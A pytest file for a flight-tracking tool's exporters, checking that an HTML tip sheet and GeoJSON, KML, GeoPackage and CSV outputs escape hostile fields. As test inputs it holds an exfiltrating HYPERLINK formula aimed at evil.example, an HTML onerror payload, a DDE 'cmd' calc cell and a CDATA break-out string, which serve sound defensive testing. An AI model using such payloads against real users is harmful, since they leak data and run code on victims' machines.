"""The tip sheet and the map formats on hand-made windows: grouping, links, escaping, maps,
thumbnails with context, tracks as lines in GeoJSON/KML/GeoPackage, CSV cells safe in a
spreadsheet."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from PIL import Image
from test_score import HOSTILE, T0, _w

from flightpaths.context.places import Place
from flightpaths.fileio import csv_cell, csv_safe_frame
from flightpaths.score import (
    adsbx_url,
    episode_lines,
    faa_registry_url,
    merge_episodes,
    replay_urls,
    thumbnail_png,
    tip_sheet_html,
    write_episodes_csv,
    write_episodes_geojson,
    write_episodes_gpkg,
    write_episodes_kml,
    write_tip_sheet,
)
from flightpaths.score.basemap import basemap_clip
from flightpaths.score.tipsheet import ThumbContext
from flightpaths.score.writers import KML_NS

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def fake_places_near(lat: float, lon: float, *, radius_km: float = 30.0, limit: int = 12) -> list[Place]:
    """Two places near any point, one with a hostile name; the farther one first (the tip sheet sorts)."""
    return [
        Place("Far Town", "NY", "US", lat + 0.1, lon, 10),
        Place("<img src=x onerror=alert(2)>Evil", "NY", "US", lat + 0.01, lon + 0.01, 5),
    ]


def lead_windows() -> pd.DataFrame:
    """a1b2c3 (US, with identity columns) circles twice over New York harbour (0-12.5 and 20-27.5
    min); 000bad circles once over London with a hostile callsign; ffffff is never positive."""
    rows = []
    probs = [0.9, 0.8, 0.95, 0.6, 0.2, 0.1, 0.3, 0.2, 0.7, 0.75, 0.1, 0.0]
    for i, p in enumerate(probs):
        row = _w(f"a_{i}", "a1b2c3", 2.5 * i, p, lat=40.65, lon=-74.05 + 0.002 * i, line=100 * i + 1)
        row["pt"] = np.linspace(0, 299, 30)
        rows.append(row)
    bad = _w("h_0", "000bad", 0, 0.99, lat=51.5, lon=-0.1, callsign=HOSTILE, line=5000)
    bad["pt"] = np.linspace(0, 299, 30)
    rows.append(bad)
    rows.append(_w("n_0", "ffffff", 0, 0.1))
    return pd.DataFrame(rows)


def lead_episodes(windows: pd.DataFrame) -> pd.DataFrame:
    eps = merge_episodes(windows)
    us = eps["object_id"] == "a1b2c3"
    eps["registration"] = np.where(us, "N752AM", "<b>G-EVIL</b>")
    eps["type_desc"] = np.where(us, "Eurocopter AS350", FORMULA)
    eps["operator"] = np.where(us, "City Police", "Quote \" ' Co")
    eps["country"] = np.where(us, "United States", "United Kingdom")
    eps["place"] = np.where(us, "2.3 km NE of Bayonne, New Jersey, US", "Westminster ]]> London")
    eps["tz"] = np.where(us, "America/New_York", "Europe/London")
    eps["year"] = np.where(us, 2004.0, np.nan)
    eps["near_airport"] = np.where(us, np.True_, np.False_)
    eps["airport_code"] = np.where(us, "KEWR", None)
    return eps


@pytest.fixture()
def page(tmp_path: Path) -> str:
    windows = lead_windows()
    path = write_tip_sheet(lead_episodes(windows), tmp_path / "tipsheet.html", windows=windows, classes=["circling"],
                           threshold=0.5, meta={"model": "<b>m</b>"}, places_near=fake_places_near)
    return path.read_text(encoding="utf-8")


def _leads(text: str) -> list[str]:
    return re.findall(r'<article class="lead".*?</article>', text, re.DOTALL)


def test_one_lead_per_aircraft_with_its_moments(page: str) -> None:
    leads = _leads(page)
    assert len(leads) == 2  # a1b2c3 has two episodes but is one lead; ffffff never positive
    assert 'data-object="000bad"' in leads[0]  # best probability first (0.99 > 0.95)
    us = leads[1]
    assert us.count('<li class="moment"') == 2
    assert us.index("08:00") < us.index("08:20")  # moments in time order, local time (EDT in May)
    assert "N752AM" in us and "Eurocopter AS350" in us and "City Police" in us and "EDT" in us
    assert re.search(r"built 2004(?![.\d])", us)
    assert "nearest airport KEWR" in us and "near an airport" in us
    assert "2.3 km NE of Bayonne, New Jersey, US" in us and "best moment: 2.3 km NE of Bayonne" in us
    assert re.search(r'data-p="0\.950000" data-t="\d+" data-d="\d+"', us)


def test_links_go_to_replays_at_that_time_and_the_faa_registry(page: str) -> None:
    us = _leads(page)[1]
    assert "https://globe.adsbexchange.com/?icao=a1b2c3&amp;showTrace=2024-05-01&amp;startTime=11:55&amp;endTime=12:17" in us
    assert "https://adsb.lol/?icao=a1b2c3&amp;showTrace=2024-05-01" in us
    assert "https://globe.airplanes.live/?icao=a1b2c3&amp;showTrace=2024-05-01" in us
    assert "https://registry.faa.gov/AircraftInquiry/Search/NNumberResult?nNumberTxt=752AM" in us
    assert "registry.faa.gov" not in _leads(page)[0]  # a UK aircraft
    assert faa_registry_url("N752AM") and faa_registry_url("C-GABC") is None
    assert adsbx_url("~1234ab", T0) is None and replay_urls("~1234ab", T0) == {}
    assert adsbx_url("A1B2C3", T0) == "https://globe.adsbexchange.com/?icao=a1b2c3&showTrace=2024-05-01"


def test_hostile_fields_are_text_and_only_our_scripts_run(page: str) -> None:
    assert HOSTILE not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<b>m</b>" not in page and "<b>G-EVIL</b>" not in page and "&lt;b&gt;G-EVIL&lt;/b&gt;" in page
    assert "<img src=x" not in page  # the place name reaches the map data as JSON with \u003c
    assert "Quote &quot; &#x27; Co" in page
    scripts = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    assert len(scripts) == 2  # Leaflet and ours; the data block is type="application/json"
    csp = re.search(r'Content-Security-Policy" content="([^"]+)"', page).group(1)  # type: ignore[union-attr]
    for script in scripts:
        digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in csp
    assert "img-src data: https://tile.openstreetmap.org;" in csp and "connect-src" not in csp
    # nothing else is loaded from outside: images are data: URIs, the rest are plain links
    assert not re.search(r"""<(img|script|link|iframe)[^>]+(src|href)=["'](?!data:)""", page)


def test_map_data_has_track_context_places_and_offline_basemap(page: str) -> None:
    raw = re.search(r'<script type="application/json" id="lead-data">(.*?)</script>', page, re.DOTALL).group(1)  # type: ignore[union-attr]
    data = json.loads(raw)
    assert len(data) == 3  # every episode with a position and points
    first, later = (data[k] for k in sorted(data) if k.startswith("a1b2c3"))  # ids sort by start time
    assert len(first["track"]) > 20 and all(abs(lat - 40.65) < 0.02 for lat, _ in first["track"])
    assert len(later["before"]) >= 2  # the aircraft's path before its second moment
    assert first["land"] and first["coast"]  # New York harbour has land and a coastline
    assert first["places"][0]["name"].startswith("<img")  # nearest first; escaped only as JSON
    assert first["label"] == "2.3 km NE of Bayonne, New Jersey, US"
    assert "Leaflet 1.9.4" in page and ".leaflet-container" in page  # inlined, not fetched


def test_thumbnails_have_a_light_background_context_and_alt_text(page: str) -> None:
    imgs = re.findall(r'<img class="thumb" alt="([^"]+)"[^>]*src="data:image/png;base64,([^"]+)"', page)
    assert len(imgs) == 3 and all("track of" in alt for alt, _ in imgs)
    x = np.array([0.0, 500, 500, 0])
    plain = Image.open(io.BytesIO(thumbnail_png(x, np.array([0.0, 0, 500, 500])))).convert("RGB")
    assert _near(plain.getpixel((1, 1)), (246, 244, 238))  # light, not black
    ring = np.array([[-5000.0, -5000], [0, -5000], [0, 5000], [-5000, 5000]])
    ctx = ThumbContext(land=[ring], lines=[ring[1:3]], places=[(400.0, 400.0, "X")])
    with_ctx = Image.open(io.BytesIO(thumbnail_png(x, np.array([0.0, 0, 500, 500]), context=ctx))).convert("RGB")
    assert _near(with_ctx.getpixel((1, 100)), (239, 233, 220))  # land on the left
    assert _near(with_ctx.getpixel((199, 100)), (207, 224, 236))  # water on the right


def _near(rgb: object, want: tuple[int, int, int]) -> bool:
    """Within a few levels per channel (thumbnails are saved with a 64-colour palette)."""
    return all(abs(int(a) - b) <= 6 for a, b in zip(rgb, want))  # type: ignore[call-overload]


def test_basemap_clip_finds_land_and_borders() -> None:
    alps = basemap_clip(5.0, 45.0, 10.0, 48.0)
    assert alps.borders and alps.land and not alps.coast  # France/Switzerland/Italy, no sea
    assert basemap_clip(-30.5, 30.0, -30.0, 30.5).empty


def test_empty_tip_sheet_says_so() -> None:
    eps = merge_episodes(pd.DataFrame([_w("n", "ffffff", 0, 0.1)]))
    assert eps.empty
    assert "No episodes above the threshold" in tip_sheet_html(eps)


def test_geojson_kml_gpkg_carry_tracks_as_lines(tmp_path: Path) -> None:
    windows = lead_windows()
    eps = lead_episodes(windows)
    lines = episode_lines(eps, windows)
    assert set(lines) == set(eps["episode_id"])
    gj = json.loads(write_episodes_geojson(eps, tmp_path / "e.geojson", tracks=lines).read_text(encoding="utf-8"))
    geoms = {f["properties"]["episode_id"]: f for f in gj["features"]}
    f = geoms[eps["episode_id"].iloc[0]]
    assert f["geometry"]["type"] == "LineString" and len(f["geometry"]["coordinates"]) > 20
    assert f["properties"]["place"] and f["properties"]["registration"] and f["properties"]["lat"]
    kml = write_episodes_kml(eps, tmp_path / "e.kml", tracks=lines)
    text = kml.read_text(encoding="utf-8")
    assert "]]>" not in text and "Westminster ]]&gt; London" in text  # no CDATA break-out
    assert "<script>" not in text and "http://maps.google.com" not in text  # fetches no icon
    root = ET.parse(kml).getroot()
    pm = root.findall(f".//{{{KML_NS}}}Placemark")[0]
    assert pm.find(f".//{{{KML_NS}}}MultiGeometry/{{{KML_NS}}}LineString") is not None
    assert pm.find(f".//{{{KML_NS}}}MultiGeometry/{{{KML_NS}}}Point") is not None
    gpd = pytest.importorskip("geopandas")
    gpkg = write_episodes_gpkg(eps, tmp_path / "e.gpkg", tracks=lines)
    centres, tracks = gpd.read_file(gpkg, layer="centres"), gpd.read_file(gpkg, layer="tracks")
    assert len(centres) == len(tracks) == len(eps) == 3
    assert set(tracks.geom_type) == {"LineString"} and set(centres.geom_type) == {"Point"}
    assert FORMULA in set(tracks["type_desc"]) and HOSTILE in set(tracks["callsign"])


def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path) -> None:
    windows = lead_windows()
    windows.loc[windows["object_id"] == "000bad", "callsign"] = FORMULA
    eps = lead_episodes(windows)
    path = write_episodes_csv(eps, tmp_path / "episodes.csv")
    back = pd.read_csv(path, dtype=str)
    bad = back[back["object_id"] == "000bad"].iloc[0]
    assert bad["callsign"] == "'" + FORMULA and bad["type_desc"] == "'" + FORMULA
    assert float(back["lon"].iloc[0]) < 0  # numbers stay numbers
    text = path.read_text(encoding="utf-8")
    assert not re.search(r'(^|,)"?[=+@\t\r]', text, re.MULTILINE)
    for cell in ("+1+1", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(cell) == "'" + cell
    assert csv_cell("-74.05") == "-74.05" and csv_cell("N752AM") == "N752AM"
    frame = csv_safe_frame(pd.DataFrame({"=a": ["=1+1"], "n": [-1.0]}, index=["@x"]))
    assert list(frame.columns) == ["'=a", "n"] and frame.iloc[0].tolist() == ["'=1+1", -1.0]
    assert list(frame.index) == ["'@x"]


def test_screen_tracks_get_a_thumbnail_and_no_map(tmp_path: Path) -> None:
    rows = []
    for i, p in enumerate([0.9, 0.8]):
        row = _w(f"m_{i}", "session_7", 2.5 * i, p, lat=float("nan"), lon=float("nan"), callsign=None)
        row["units"] = "px"
        rows.append(row)
    windows = pd.DataFrame(rows)
    eps = merge_episodes(windows)
    text = write_tip_sheet(eps, tmp_path / "t.html", windows=windows).read_text(encoding="utf-8")
    assert len(_leads(text)) == 1 and "(screen track)" in text
    assert text.count('src="data:image/png;base64,') == 1 and 'class="showmap"' not in text
    assert "adsbexchange" not in text  # not an aircraft address


def test_gaps_in_a_track_never_break_the_page(tmp_path: Path) -> None:
    windows = lead_windows()
    windows.at[0, "px"] = np.where(np.arange(30) % 7 == 0, np.nan, windows.at[0, "px"])
    text = write_tip_sheet(merge_episodes(windows), tmp_path / "t.html", windows=windows).read_text(encoding="utf-8")
    raw = re.search(r'id="lead-data">(.*?)</script>', text, re.DOTALL).group(1)  # type: ignore[union-attr]
    data = json.loads(raw)  # strict JSON: NaN would not parse in the page
    assert all(len(d["track"]) > 10 for d in data.values())
